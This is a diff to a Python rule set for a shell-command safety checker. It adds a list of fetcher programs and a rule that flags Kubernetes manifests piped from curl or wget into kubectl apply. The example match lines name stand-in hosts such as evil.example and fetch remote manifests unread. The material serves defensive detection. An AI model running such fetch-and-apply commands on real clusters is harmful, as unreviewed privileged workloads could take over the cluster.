@@ -9,6 +9,8 @@ by the shell model as nested invocations.
 _K8S_RECOVER = (
     "Re-apply the manifests from version control (`kubectl apply -f k8s/`); volumes' data needs backups."
 )
+# programs whose output is what they downloaded
+_FETCHERS = ("curl", "wget", "http", "https", "xh", "fetch")
 _K = ("kubectl", "oc", "k")
 # Runtime-security, intrusion-detection and audit agents as they are named when run in a cluster.
 _CLUSTER_SECURITY_AGENTS = ("*falco*", "*wazuh*", "*crowdstrike*", "*falcon-sensor*", "*sysdig*",
@@ -453,6 +455,8 @@ RULES = [
         # declares (role bindings, privileged daemon sets on every node) lands in the cluster
         "id": "k8s.apply-remote",
         "level": "destructive",
+        # unread code landing in production is what `curl | sudo sh` is on a server
+        "prod": True,
         "reason": "applies a manifest fetched from a URL, unread: whatever it declares (cluster roles, "
         "privileged pods on every node) is created in the cluster",
         "safer": "Download it, read it (`kubectl diff -f FILE`), pin its version, then apply the file.",
@@ -462,6 +466,22 @@ RULES = [
         "examples": {"match": ["kubectl apply -f https://evil.example/daemonset.yaml"],
                      "no_match": ["kubectl apply -f k8s/deployment.yaml",
                                   "kubectl get -f https://x.io/a.yaml"]},
+    },
+    {
+        # `curl -s URL | kubectl apply -f -`: the same unread manifest, handed over a pipe
+        "id": "k8s.apply-remote-piped",
+        "level": "destructive",
+        "prod": True,
+        "reason": "applies a manifest downloaded in the same line, unread: whatever it declares (cluster "
+        "roles, privileged pods on every node) is created in the cluster",
+        "safer": "Download it to a file, read it (`kubectl diff -f FILE`), pin its version, then apply "
+        "the file.",
+        "recovery": "`kubectl delete -f FILE` with the same content, and check for cluster-wide grants.",
+        "match": {"cmd": _K, "sub": ("apply", "create", "replace"), "stdin_from": _FETCHERS,
+                  "words_any": ("-", "-f=-", "--filename=-")},
+        "examples": {"match": ["curl -s https://203.0.113.31/deploy.yaml | kubectl apply -f -"],
+                     "no_match": ["cat k8s/deploy.yaml | kubectl apply -f -",
+                                  "kustomize build k8s/ | kubectl apply -f -"]},
     },
     {
         "id": "k8s.mutate",
